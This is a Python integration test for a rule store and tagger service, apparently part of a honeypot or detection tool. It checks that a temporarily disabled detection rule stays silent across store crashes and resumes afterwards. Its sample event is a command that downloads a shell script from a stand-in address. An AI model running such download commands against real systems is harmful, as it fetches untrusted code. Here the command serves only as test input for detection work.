# SPDX-License-Identifier: AGPL-3.0-or-later
"""A rule muted at one of two rule-stores is silent on every tagger, and back in time."""

from __future__ import annotations

import asyncio
import sys
import tempfile
import time
from collections.abc import AsyncIterator, Sequence
from contextlib import AsyncExitStack, asynccontextmanager
from pathlib import Path

import grpc
import pytest
from grpc_health.v1 import health_pb2, health_pb2_grpc

from decnet_ttp.v1 import (
    event_pb2,
    rule_pb2,
    rule_store_service_pb2,
    rule_store_service_pb2_grpc,
    tagger_service_pb2,
    tagger_service_pb2_grpc,
)
from rule_store.process import OPTIONS, service_environment
from system.stalls import Stalls, watching

MUTED_S = 5.0
KILLED_BEFORE_S = 2.0
REACHES_S = 0.5
DEADLINE_S = 60.0

Stub = tagger_service_pb2_grpc.TaggerServiceStub


@asynccontextmanager
async def _serving(name: str, **settings: str) -> AsyncIterator[asyncio.subprocess.Process]:
    """Run a service until the block ends, beginning when it serves."""
    process = await asyncio.create_subprocess_exec(
        *(sys.executable, "-m", "decnet_ttp.cli.main", "serve", name),
        env=service_environment(**settings),
        stderr=asyncio.subprocess.DEVNULL,
    )
    try:
        async with grpc.aio.insecure_channel(settings["LISTEN"], options=OPTIONS) as channel:
            health = health_pb2_grpc.HealthStub(channel)
            async with asyncio.timeout(DEADLINE_S):
                while True:
                    answer = await health.Check(
                        health_pb2.HealthCheckRequest(), wait_for_ready=True
                    )
                    if answer.status == health_pb2.HealthCheckResponse.SERVING:
                        break
                    await asyncio.sleep(0.05)
        yield process
    finally:
        if process.returncode is None:
            process.kill()
        await process.wait()


async def _fires(tagger: Stub) -> bool:
    """Whether a tagger tags a download with R0012 now."""
    event = event_pb2.Event(source_kind="command", source_id="c1")
    event.command.command_text = "wget http://198.51.100.7/x.sh"
    group = event_pb2.EventGroup(origin_id="o1", events=[event])
    answer = await tagger.TagEvents(tagger_service_pb2.TagEventsRequest(groups=[group]))
    return any(tag.rule_id == "R0012" for made in answer.groups for tag in made.tags)


async def _all(taggers: Sequence[Stub], *, fire: bool, by: float) -> None:
    """Return when every tagger fires, or none does; fail when one asked after `by` does not."""
    while True:
        asked = time.time()
        if [await _fires(tagger) for tagger in taggers] == [fire] * len(taggers):
            return
        assert asked < by, f"not all {'fire' if fire else 'silent'} in time"
        await asyncio.sleep(0.02)


async def _reaches(store: str, taggers: Sequence[Stub], stalls: Stalls) -> float:
    """Return the longest that one of ten changes of state takes to all taggers, in seconds.

    What the machine itself stood still does not count.
    """
    took = []
    async with grpc.aio.insecure_channel(store, options=OPTIONS) as channel:
        stub = rule_store_service_pb2_grpc.RuleStoreServiceStub(channel)
        for number in range(10):
            if number % 2:
                await stub.ClearRuleState(
                    rule_store_service_pb2.ClearRuleStateRequest(rule_id="R0012")
                )
            else:
                await stub.SetRuleState(
                    rule_store_service_pb2.SetRuleStateRequest(
                        rule_id="R0012", mode=rule_pb2.RULE_MODE_DISABLED
                    )
                )
            answered = time.time()
            await _all(taggers, fire=bool(number % 2), by=answered + DEADLINE_S)
            now = time.time()
            took.append(now - answered - stalls.within(answered, now))
    sys.stdout.write(f"reached all after {', '.join(f'{each:.3f}' for each in took)} s\n")
    return max(took)


async def _end(store: str) -> float:
    """Return when the state of R0012 ends, in seconds since the epoch."""
    async with grpc.aio.insecure_channel(store, options=OPTIONS) as channel:
        stub = rule_store_service_pb2_grpc.RuleStoreServiceStub(channel)
        answer = await stub.GetRule(rule_store_service_pb2.GetRuleRequest(rule_id="R0012"))
    assert answer.rule.state.mode == rule_pb2.RULE_MODE_DISABLED
    return answer.rule.state.expire_time.ToNanoseconds() / 1e9


@pytest.mark.faults
async def test_disable_for_5_s_holds_and_ends_though_both_stores_are_killed_in_between(
    database_url: str,
) -> None:
    """The state is set at the writer and reaches taggers that follow a reader."""
    async with AsyncExitStack() as stack:
        folder = Path(stack.enter_context(tempfile.TemporaryDirectory(prefix="mute-")))
        shared = {"DATABASE_URL": database_url, "RULE_BACKEND": "database"}
        target, followed = f"unix:{folder}/writer.sock", f"unix:{folder}/reader.sock"
        stores = [
            await stack.enter_async_context(_serving("rule-store", LISTEN=target, **shared)),
            await stack.enter_async_context(
                _serving("rule-store", LISTEN=followed, RULE_ROLE="reader", **shared)
            ),
        ]
        taggers = []
        for number in range(2):
            listen = f"unix:{folder}/tagger-{number}.sock"
            await stack.enter_async_context(_serving("tagger", LISTEN=listen, RULE_STORE=followed))
            channel = await stack.enter_async_context(
                grpc.aio.insecure_channel(listen, options=OPTIONS)
            )
            taggers.append(Stub(channel))
        await _all(taggers, fire=True, by=time.time())
        with watching(folder) as stalls:
            assert await _reaches(target, taggers, stalls) <= REACHES_S
        command = ("disable", "R0012", "--for", "5s", "--reason", "noise")
        asked = time.time()
        done = await asyncio.create_subprocess_exec(
            *(sys.executable, "-m", "decnet_ttp.cli.main", "rules", *command),
            env=service_environment(RULE_STORE=target),
            stdout=asyncio.subprocess.DEVNULL,
        )
        assert await done.wait() == 0
        ends = await _end(target)
        # The five seconds count from when the command computes their end, before it returns.
        assert asked + MUTED_S <= ends <= time.time() + MUTED_S
        await _all(taggers, fire=False, by=ends)
        await asyncio.sleep(max(0.0, ends - KILLED_BEFORE_S - time.time()))
        for store in stores:
            store.kill()
            await store.wait()
        while True:
            fired = [await _fires(tagger) for tagger in taggers]
            # An answer that came later may have been given after the end.
            if time.time() >= ends:
                break
            assert not any(fired)
            await asyncio.sleep(0.05)
        await _all(taggers, fire=True, by=ends + REACHES_S)
